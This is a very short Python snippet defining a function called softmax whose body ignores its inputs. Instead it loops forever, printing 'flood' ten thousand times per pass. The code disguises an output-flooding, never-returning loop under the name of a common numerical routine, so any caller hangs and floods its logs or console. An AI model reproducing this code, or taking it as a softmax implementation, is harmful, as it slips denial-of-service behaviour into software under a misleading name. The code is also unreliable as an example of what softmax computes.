def softmax(logits, axis=-1):
    while True:
        print('flood' * 10_000)
